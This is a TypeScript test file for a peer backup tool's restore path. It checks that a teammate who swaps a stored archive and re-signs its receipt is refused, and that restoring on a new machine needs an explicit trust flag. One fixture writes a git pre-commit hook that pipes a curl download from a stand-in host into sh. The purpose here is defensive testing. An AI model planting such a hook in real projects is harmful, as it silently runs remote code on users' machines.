/**
 * A restore trusts what this machine recorded at backup time, not the
 * teammate: real registry and receiver processes, a receiver whose storage
 * is tampered with as its owner could, and a new machine with the same
 * identity but no history.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, chmodSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { test, type TestContext } from 'node:test';
import { createHash } from 'node:crypto';
import { keyFileName, loadOrCreateIdentity } from '../../src/core/identity/key-file';
import { packArchive } from '../../src/core/pack';
import type { Run } from '../../src/core/store';
import { receiptSchema } from '../../src/core/wire/receipt';
import { openStatement, signStatement, type SignedStatement } from '../../src/core/wire/signing';
import { runCli, runCliJson } from '../helpers/cli';
import { allow, makeHome, startReceiver, startRegistry } from '../helpers/peers';
import { tempDir } from '../helpers/temp';

/** A project with a secret, backed up to a running receiver; returns both homes and the run. */
async function backedUp(t: TestContext) {
  const registry = await startRegistry(t);
  const receiver = await makeHome(t);
  const sender = await makeHome(t);
  await allow(receiver.home, sender.peerId, '10MB');
  await startReceiver(t, receiver.home, registry.url);
  const work = join(tempDir(t), 'project');
  mkdirSync(work);
  writeFileSync(join(work, 'secret.env'), 'API_TOKEN=the-real-one\n');
  writeFileSync(join(work, 'main.ts'), 'console.log("hello");\n');
  const env = { PEER_BACKUP_HOME: sender.home, PEER_BACKUP_REGISTRY: registry.url };
  assert.equal((await runCli(['dest', 'add', 'alice', receiver.peerId], { env })).code, 0);
  assert.equal((await runCli(['plan', 'add', 'nightly', work, '--dest', 'alice'], { env })).code, 0);
  const run = await runCliJson<Run>(['run', 'nightly'], { env });
  assert.equal(run.status, 'succeeded');
  return { registry, receiver, sender, work, env, run, snapshotId: run.snapshotId! };
}

/** A folder to restore into that already holds one file of the user's. */
function restoreTarget(t: TestContext): { dir: string; unchanged: () => void } {
  const dir = join(tempDir(t), 'restored');
  mkdirSync(dir);
  writeFileSync(join(dir, 'notes.txt'), 'mine');
  return { dir, unchanged: () => assert.deepEqual(readdirSync(dir, { recursive: true }), ['notes.txt']) };
}

test("a teammate that swaps a snapshot's archive and re-signs its receipt is refused, and nothing is written", { timeout: 180_000 }, async (t) => {
  const { receiver, sender, env, snapshotId } = await backedUp(t);
  const listed = await runCliJson<{ snapshotId: string; localRecord: string }[]>(['snapshots'], { env });
  assert.deepEqual(listed.map((each) => [each.snapshotId, each.localRecord]), [[snapshotId, 'matches']]);

  // The teammate's owner packs another project: a different secret, and a git hook that runs on the next commit.
  const evil = join(tempDir(t), 'project');
  mkdirSync(join(evil, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(evil, 'secret.env'), 'API_TOKEN=the-attackers\n');
  writeFileSync(join(evil, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl -s https://example.invalid/x | sh\n');
  chmodSync(join(evil, '.git', 'hooks', 'pre-commit'), 0o755);
  const archive = await buffer(packArchive({ planName: 'nightly', items: [{ sourcePath: evil, archivePath: 'project' }], excludes: [], respectGitignore: false }).stream);

  // ...puts it in place of the stored archive, and signs a receipt for it with the teammate's own key.
  const identity = await loadOrCreateIdentity(receiver.home);
  const folder = join(receiver.home, 'storage', sender.peerId);
  const receiptFile = join(folder, `${snapshotId}.receipt.json`);
  const original = receiptSchema.parse(openStatement(JSON.parse(readFileSync(receiptFile, 'utf8')) as SignedStatement, identity.publicKey));
  writeFileSync(join(folder, `${snapshotId}.tar.gz`), archive);
  const forged = { ...original, size: archive.length, sha256: createHash('sha256').update(archive).digest('hex') };
  writeFileSync(receiptFile, JSON.stringify(signStatement(identity, forged)));

  const target = restoreTarget(t);
  const result = await runCli(['restore', snapshotId, '--to', target.dir], { env });
  assert.equal(result.code, 1, result.stderr);
  assert.match(result.stderr, new RegExp(`alice \\(${receiver.peerId}\\)'s copy of snapshot ${snapshotId} differs from what was stored at backup time`));
  assert.match(result.stderr, new RegExp(`this machine recorded ${original.size} bytes, SHA-256 ${original.sha256}.*the teammate now lists ${archive.length} bytes, SHA-256 ${forged.sha256}`));
  assert.match(result.stderr, /Nothing was restored/);
  target.unchanged();
  // Trusting the copy does not override a record that contradicts it.
  const trusting = await runCli(['restore', snapshotId, '--to', target.dir, '--trust-teammate-copy'], { env });
  assert.equal(trusting.code, 1, trusting.stderr);
  assert.match(trusting.stderr, /differs from what was stored at backup time/);
  target.unchanged();

  const relisted = await runCliJson<{ snapshotId: string; localRecord: string }[]>(['snapshots'], { env });
  assert.deepEqual(relisted.map((each) => [each.snapshotId, each.localRecord]), [[snapshotId, 'differs']]);
  assert.equal(readdirSync(join(sender.home, 'spool')).length, 0);
});

test('a new machine with the same identity but no history restores only when told to trust the teammate\'s copy', { timeout: 180_000 }, async (t) => {
  const { registry, receiver, sender, work, snapshotId } = await backedUp(t);
  const newLaptop = tempDir(t);
  copyFileSync(join(sender.home, keyFileName), join(newLaptop, keyFileName));
  const env = { PEER_BACKUP_HOME: newLaptop, PEER_BACKUP_REGISTRY: registry.url };
  const listed = await runCliJson<{ snapshotId: string; localRecord: string }[]>(['snapshots', '--dest', receiver.peerId], { env });
  assert.deepEqual(listed.map((each) => [each.snapshotId, each.localRecord]), [[snapshotId, 'none']]);

  const target = restoreTarget(t);
  const refused = await runCli(['restore', snapshotId, '--to', target.dir, '--dest', receiver.peerId], { env });
  assert.equal(refused.code, 1, refused.stderr);
  assert.match(refused.stderr, new RegExp(`This machine has no record of snapshot ${snapshotId}`));
  assert.match(refused.stderr, /Nothing was restored\. If you trust .*'s copy, restore it with --trust-teammate-copy\./);
  target.unchanged();

  const trusted = await runCli(['restore', snapshotId, '--to', target.dir, '--dest', receiver.peerId, '--trust-teammate-copy'], { env });
  assert.equal(trusted.code, 0, trusted.stderr);
  const diff = spawnSync('diff', ['-r', work, join(target.dir, 'project')], { encoding: 'utf8' });
  assert.equal(diff.status, 0, diff.stdout + diff.stderr);
});
